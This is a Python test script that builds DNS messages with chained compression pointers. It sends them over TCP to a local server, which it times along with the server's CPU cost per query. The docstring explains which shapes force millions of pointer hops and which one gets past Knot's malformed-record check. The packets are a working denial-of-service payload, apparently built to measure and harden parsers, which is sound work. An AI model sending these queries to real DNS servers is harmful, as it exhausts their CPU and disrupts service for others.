#!/usr/bin/env python3
"""parse-cost helper: builds hostile compressed-name queries and times them over TCP against one server.

usage: parse-cost.py PORT PID ZONE ROUNDS WARMUP   (prints one line per query kind)

Query kinds (all QUERY, QDCOUNT 1, qname ZONE SOA, about 64 KB, sent framed over one TCP connection):
  chain-ar   the pointer chain: one NULL record whose RDATA holds a label and then 8,000 two-byte compression
             pointers, each pointing at the one before it; then 4,000 NULL records with empty RDATA whose owner name
             is a pointer to the last link. All records in the additional section (ANCOUNT = NSCOUNT = 0), so a
             FORMERR for answer or authority records does not help: only a per-name hop cap or a per-message bound
             does. Following every pointer means 4,000 x 8,000 = 32 million hops. Knot rejects it at the first
             chained record for another reason: an IN-class record of a known type with empty RDATA is malformed
             to Knot.
  chain-ar1  the same with one byte of RDATA per record (3,700 records fit in 64 KB): well-formed to Knot, which
             then follows every pointer (3,700 x 8,000 hops).
  chain-an   chain-ar1 with the records in the answer section (ANCOUNT 3,701).
  plain      a normal SOA query (the cost floor: TCP round trip and one answer).
Per kind: the rcode, the number of queries, the median and 90th percentile round trip in ms (after WARMUP
unmeasured queries), and the server's CPU time per query (utime+stime of PID from /proc over the measured queries).
At least ROUNDS queries and at least 2 s per kind, so that the 10 ms CPU ticks add up.
"""
import os
import socket
import struct
import sys
import time

HOPS = 8000
TYPE_NULL = 10


def qname_wire(zone):
    out = b""
    for label in zone.strip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def query(zone, kind, qid=0x4242):
    if kind == "chain-ar":      # the query: 4,000 records with empty NULL RDATA
        return chain(zone, 0, 4000, False, qid)
    if kind == "chain-ar1":     # the same with one byte of RDATA each (3,700 fit)
        return chain(zone, 1, 3700, False, qid)
    if kind == "chain-an":      # chain-ar1 in the answer section
        return chain(zone, 1, 3700, True, qid)
    return chain(zone, 0, 0, False, qid)


def chain(zone, record_rdlen, records, in_answer, qid):
    question = qname_wire(zone) + struct.pack(">HH", 6, 1)
    if records == 0:
        return struct.pack(">HHHHHH", qid, 0, 1, 0, 0, 0) + question
    body = bytearray()
    start = 12 + len(question)
    # record 0: root owner, NULL type, RDATA = "\x01a\x00" + 8,000 pointers, each to the previous link
    rdata_at = start + 1 + 10
    rdata = bytearray(b"\x01a\x00")
    prev = rdata_at
    for _ in range(HOPS):
        here = rdata_at + len(rdata)
        rdata += struct.pack(">H", 0xC000 | prev)
        prev = here
    assert prev < 0x4000, "chain must stay in the first 16 KB (14-bit pointers)"
    body += b"\0" + struct.pack(">HHIH", TYPE_NULL, 1, 0, len(rdata)) + rdata
    # 4,000 records owned by the last link: each owner name walks the whole chain
    for _ in range(records):
        body += struct.pack(">H", 0xC000 | prev) + struct.pack(">HHIH", TYPE_NULL, 1, 0, record_rdlen) \
            + b"\0" * record_rdlen
    count = records + 1
    an, ar = (count, 0) if in_answer else (0, count)
    msg = struct.pack(">HHHHHH", qid, 0, 1, an, 0, ar) + question + bytes(body)
    assert len(msg) <= 65535
    return msg


def cpu_ticks(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return int(fields[11]) + int(fields[12]) + int(fields[13]) + int(fields[14])


def recv_exact(s, n):
    buf = bytearray()
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise EOFError("server closed the connection")
        buf += chunk
    return bytes(buf)


class Connection:
    """One TCP connection, reopened (outside the timing) when the server has closed it: Knot closes a connection
    after answering a malformed message FORMERR, so each of its chain queries pays a fresh connection."""

    def __init__(self, port):
        self.port = port
        self.s = None
        self.reconnects = 0

    def ask(self, msg):
        for attempt in range(2):
            if self.s is None:
                self.s = socket.create_connection(("127.0.0.1", self.port), timeout=60)
                self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                self.reconnects += 1
            try:
                t0 = time.perf_counter()
                self.s.sendall(struct.pack(">H", len(msg)) + msg)
                n = struct.unpack(">H", recv_exact(self.s, 2))[0]
                r = recv_exact(self.s, n)
                return (time.perf_counter() - t0) * 1000, r
            except (EOFError, ConnectionResetError, BrokenPipeError):
                self.close()
                if attempt:
                    raise
        raise AssertionError("unreachable")

    def close(self):
        if self.s is not None:
            self.s.close()
            self.s = None


RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}


def main():
    port, pid, zone, rounds, warmup = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
    hz = os.sysconf("SC_CLK_TCK")
    for kind in ("plain", "chain-ar", "chain-ar1", "chain-an"):
        msg = query(zone, kind)
        conn = Connection(port)
        for _ in range(warmup):
            conn.ask(msg)
        times = []
        c0 = cpu_ticks(pid)
        rcode = None
        began = time.perf_counter()
        while len(times) < rounds or time.perf_counter() - began < 2.0:
            took, r = conn.ask(msg)
            times.append(took)
            rcode = r[3] & 0xF
        c1 = cpu_ticks(pid)
        conn.close()
        n = len(times)
        times.sort()
        med = times[len(times) // 2]
        p90 = times[min(len(times) - 1, int(len(times) * 0.9))]
        cpu_ms = (c1 - c0) / hz * 1000 / n
        print(f"{kind:9} {len(msg):6d} B  {n:5d} q  {RCODES.get(rcode, rcode):8}  median {med:9.3f} ms  p90 {p90:9.3f} ms"
              f"  server CPU {cpu_ms:8.3f} ms/query  connections {conn.reconnects}")


if __name__ == "__main__":
    main()
